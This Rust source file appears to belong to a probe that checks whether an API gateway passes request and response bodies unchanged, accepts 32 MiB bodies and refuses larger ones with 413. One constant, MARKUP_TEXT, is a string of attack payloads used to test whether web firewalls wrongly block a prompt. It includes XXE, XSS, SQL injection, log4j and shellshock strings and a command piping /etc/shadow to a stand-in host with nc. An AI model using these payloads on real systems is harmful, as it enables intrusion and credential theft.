//! Looks at what becomes of bodies, on both ways.

use std::time::Duration;

use aws_lc_rs::digest::{SHA256, digest};
use serde_json::Value;
use tollgate_simulator::{MAX_BODY_BYTES, Seen};

use super::{
    rules::{ANSWER, BODY, BYTES, LARGE, MARKUP, OVER},
    scene::{Scene, Trial},
};
use crate::{
    exchange::{Answer, ExchangeFault},
    finding::{Finding, Ground, Ground::Proven},
};

/// The text that the probe answers the first request with.
pub(super) const FIRST_TEXT: &str = "Bodies pass as they are: \u{e9} \u{1f511} \\ \\u00e9 </p>.";

/// The structure of both bodies in the first request.
pub(super) fn first(trial: &Trial) -> Finding {
    let (answer, seen) = match trial.both(&BODY, "the request") {
        Ok(both) => both,
        Err(finding) => return *finding,
    };
    let sent: Value = serde_json::from_slice(&trial.sent.body).unwrap_or_default();
    let arrived: Value = serde_json::from_slice(&seen.body).unwrap_or_default();
    let finding = if arrived != sent {
        let says =
            format!("the request reaches the upstream with other content: {}", difference(&sent, &arrived));
        Finding::fail(&BODY, Proven, says)
    } else if let Some(fault) = message_fault(answer, Some(seen)) {
        Finding::fail(&BODY, Proven, fault)
    } else {
        Finding::pass(&BODY, Proven, "Response body structure preserved correctly")
    };
    trial.explain(finding)
}

/// What is wrong with an answer that should be the message of the probe, or of anyone.
pub(super) fn message_fault(answer: &Answer, seen: Option<&Seen>) -> Option<String> {
    let Ok(message) = serde_json::from_slice::<Value>(&answer.body()) else {
        return Some("the answer is no JSON".to_owned());
    };
    let members = ["id", "type", "role", "model", "content", "stop_reason", "usage"];
    if let Some(missing) = members.iter().find(|name| message.get(**name).is_none()) {
        return Some(format!("the answer has no `{missing}`"));
    }
    let seen = seen?;
    let usage = seen.answer.usage.map(|tokens| (tokens.input, tokens.output));
    let told = (message["usage"]["input_tokens"].as_u64(), message["usage"]["output_tokens"].as_u64());
    if message["content"][0]["text"] != FIRST_TEXT {
        Some("the answer has another text than the upstream gave".to_owned())
    } else if usage.is_some_and(|(input, output)| told != (Some(input), Some(output))) {
        Some("the answer tells another usage than the upstream told".to_owned())
    } else {
        None
    }
}

/// The first member in which two objects differ.
fn difference(sent: &Value, arrived: &Value) -> String {
    let (Some(sent), Some(arrived)) = (sent.as_object(), arrived.as_object()) else {
        return "it is no JSON object any more".to_owned();
    };
    let lost = sent.iter().find(|(name, value)| arrived.get(*name) != Some(value));
    let added = arrived.keys().find(|name| !sent.contains_key(*name));
    match (lost, added) {
        (Some((name, _)), _) if !arrived.contains_key(name) => format!("`{name}` is dropped"),
        (Some((name, _)), _) => format!("`{name}` is changed"),
        (None, Some(name)) => format!("`{name}` is added"),
        (None, None) => "nothing".to_owned(),
    }
}

/// A body that every decoder writes otherwise than it read it.
fn odd_body(model: &str, nonce: &str) -> String {
    let model = Value::from(model);
    format!(
        "{{ \"x_check\" : {{\"b\":1.0,\"a\":1e2,\"b2\":1E+2,\"big\":12345678901234567890123,\"neg\":-0.0,\
         \"small\":1.10,\"slash\":\"a\\/b\",\"caf\\u00e9\":\"\\u00e9\u{e9}\",\"pair\":\"\\ud83d\\udd11\",\
         \"empty\":{{ }},\"list\":[ ],\"twice\":1,\"twice\":1}},\r\n\t\"stream\":false,\n  \"model\" : {model},\
         \"system\":[{{\"type\":\"text\",\"text\":\"zero\"}} , {{\"text\":\"one\",\"type\":\"text\"}}],\
         \"max_tokens\":16,\"messages\":[{{\"role\":\"user\",\"content\":\"{nonce}\"}}]}}\n"
    )
}

/// The request's bytes.
pub(super) async fn bytes(scene: &Scene) -> Finding {
    let question = scene.message("");
    let body = odd_body(&scene.model, &question.nonce);
    let trial = scene.ask(question.body(body)).await;
    let seen = match trial.both(&BYTES, "a request in an unusual spelling of JSON") {
        Ok((_, seen)) => seen,
        Err(finding) => return *finding,
    };
    let finding = if is_same(&trial.sent.body, seen.body_sha256.as_deref()) {
        Finding::pass(&BYTES, Proven, "they arrive as they were sent, in an unusual spelling too")
    } else {
        let at = trial.sent.body.iter().zip(&seen.body).take_while(|(sent, arrived)| sent == arrived).count();
        let around = |bytes: &[u8]| super::scene::beginning(&bytes[at.saturating_sub(20).min(bytes.len())..]);
        return Finding::fail(&BYTES, Proven, format!("they are changed from byte {at} on"))
            .with("sent", around(&trial.sent.body))
            .with("reached the upstream", around(&seen.body));
    };
    trial.explain(finding)
}

/// Whether these bytes have this SHA-256 in hexadecimal.
pub(super) fn is_same(bytes: &[u8], sha256: Option<&str>) -> bool {
    let hex: String = digest(&SHA256, bytes).as_ref().iter().map(|byte| format!("{byte:02x}")).collect();
    sha256 == Some(hex.as_str())
}

/// The answer's bytes, plain and streamed.
pub(super) async fn answer(scene: &Scene) -> Finding {
    let plain = scene.message("text=\"caf\\u00e9 \\u0000 / ]\"; thinking");
    let stream = scene.message("events=3; thinking").stream();
    for (what, question, kind) in
        [("a plain answer", plain, "application/json"), ("a stream", stream, "text/event-stream")]
    {
        let trial = scene.ask(question).await;
        let (answer, seen) = match trial.both(&ANSWER, &format!("a request for {what}")) {
            Ok(both) => both,
            Err(finding) => return *finding,
        };
        let fail = |says: String| trial.explain(Finding::fail(&ANSWER, Proven, says));
        if !is_same(&answer.body(), seen.answer.body_sha256.as_deref()) {
            return fail(format!("the bytes of {what} are not those that the upstream sent"));
        }
        let given = answer.header("content-type").unwrap_or("none");
        if !given.starts_with(kind) {
            return fail(format!("the content-type of {what} is {given}, and was {kind}"));
        }
    }
    Finding::pass(&ANSWER, Proven, "they arrive as the upstream sent them")
}

/// A body of so many bytes.
fn padded(scene: &Scene, bytes: usize) -> super::question::Question {
    let question = scene.message("");
    let text = String::from_utf8_lossy(question.text()).into_owned();
    let padding = "a line of source code; ".repeat(bytes / 20);
    let padding = &padding[..bytes.saturating_sub(text.len())];
    let question = question.body(text.replace("Say hello.", &format!("Say hello.{padding}")));
    let silence = UPLOAD.max(scene.patience);
    question.silence(silence)
}

/// How long an upload of 32 MiB may take: 10 Mbit/s need half of it.
const UPLOAD: Duration = Duration::from_secs(60);
/// How often a request is sent that is refused before it is read. The refusal and the broken connection race each other.
const REFUSED_TRIES: usize = 4;

/// The largest request that the API takes.
pub(super) async fn large(scene: &Scene) -> Finding {
    let trial = scene.ask(padded(scene, MAX_BODY_BYTES as usize)).await;
    let (answer, seen) = match trial.both(&LARGE, "a request of 32 MiB") {
        Ok(both) => both,
        Err(finding) => return *finding,
    };
    let finding = if !is_same(&trial.sent.body, seen.body_sha256.as_deref()) {
        let says = format!("a request of 32 MiB arrives with {} bytes, or with others", seen.body_bytes);
        Finding::fail(&LARGE, Proven, says)
    } else if answer.status != 200 {
        Finding::fail(
            &LARGE,
            Proven,
            format!("a request of 32 MiB is answered with status {}", answer.status),
        )
    } else {
        Finding::pass(&LARGE, Proven, format!("32 MiB arrive, within {} ms", trial.took.as_millis()))
    };
    trial.explain(finding)
}

/// A request that is larger.
pub(super) async fn over(scene: &Scene) -> Finding {
    let mut trial = scene.ask(padded(scene, MAX_BODY_BYTES as usize + 1024)).await;
    for _ in 1..REFUSED_TRIES {
        if !matches!(trial.answer, Err(ExchangeFault::Broken(_))) {
            break;
        }
        trial = scene.ask(padded(scene, MAX_BODY_BYTES as usize + 1024)).await;
    }
    let finding = match &trial.answer {
        Ok(answer) if answer.status == 429 => Finding::unknown(&OVER, "a limit refuses the request"),
        Ok(answer) if answer.status != 413 => {
            Finding::fail(&OVER, Proven, format!("it is answered with status {}", answer.status))
        }
        Ok(answer) => {
            let sent = trial.arrived.last().and_then(|seen| seen.answer.body_sha256.as_deref());
            if is_envelope(&answer.body()) || is_same(&answer.body(), sent) {
                Finding::pass(&OVER, Proven, "it is refused with 413")
            } else {
                Finding::fail(&OVER, Proven, "it is refused with 413, but not in the API's envelope")
            }
        }
        Err(fault) => Finding::fail(&OVER, Proven, format!("it is refused without an answer: {fault}")),
    };
    trial.explain(finding)
}

/// Whether a body is an error as the API writes them.
pub(super) fn is_envelope(body: &[u8]) -> bool {
    let Ok(error) = serde_json::from_slice::<Value>(body) else { return false };
    error["type"] == "error" && error["error"]["type"].is_string() && error["error"]["message"].is_string()
}

/// Prompts that firewalls of web pages take for attacks.
const MARKUP_TEXT: &str = "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><tool_use>\
    <script>alert(document.cookie)</script></tool_use> ' OR '1'='1'; DROP TABLE users; -- ../../../../etc/passwd \
    ${jndi:ldap://example.invalid/a} {{7*7}} <%= system('id') %> ; cat /etc/shadow | nc example.invalid 80 \
    <img src=x onerror=alert(1)> () { :;}; /bin/sh -c id UNION SELECT password FROM users";

/// A prompt that looks like an attack.
pub(super) async fn markup(scene: &Scene, ground: Ground) -> Finding {
    let question = scene.message("");
    let prompt = Value::from(format!("{} {MARKUP_TEXT}", question.nonce)).to_string();
    let plain = Value::from(format!("{} Say hello.", question.nonce)).to_string();
    let body = String::from_utf8_lossy(question.text()).replace(&plain, &prompt);
    let trial = scene.ask(question.body(body)).await;
    let finding = match trial.both(&MARKUP, "a prompt that looks like markup and code") {
        Err(finding) if scene.is_proven() => return *finding,
        Ok((answer, seen)) if answer.status == 200 => {
            if is_same(&trial.sent.body, seen.body_sha256.as_deref()) {
                Finding::pass(&MARKUP, ground, "it passes")
            } else {
                Finding::fail(&MARKUP, ground, "it arrives with other bytes")
            }
        }
        _ => match trial.status() {
            Some(200) => Finding::pass(&MARKUP, ground, "it passes"),
            Some(429) => Finding::unknown(&MARKUP, "a limit refuses the request"),
            Some(status) => Finding::fail(&MARKUP, ground, format!("it is answered with status {status}")),
            None => Finding::fail(&MARKUP, ground, "it gets no answer"),
        },
    };
    trial.explain(finding)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_odd_body_is_json_and_no_encoder_writes_it_so() {
        let body = odd_body("claude-haiku-5-5", "n-1");
        let value: Value = serde_json::from_str(&body).unwrap();
        assert_eq!(value["model"], "claude-haiku-5-5");
        assert_ne!(value.to_string(), body);
    }

    #[test]
    fn a_difference_is_named_by_its_member() {
        let rows = [
            (r#"{"a":1,"b":2}"#, r#"{"a":1}"#, "`b` is dropped"),
            (r#"{"a":[1,2]}"#, r#"{"a":[2,1]}"#, "`a` is changed"),
            (r#"{"a":1}"#, r#"{"a":1,"c":2}"#, "`c` is added"),
            (r#"{"a":1}"#, "[]", "it is no JSON object any more"),
        ];
        for (sent, arrived, says) in rows {
            let value = |text| serde_json::from_str(text).unwrap();
            assert_eq!(difference(&value(sent), &value(arrived)), says);
        }
    }
}
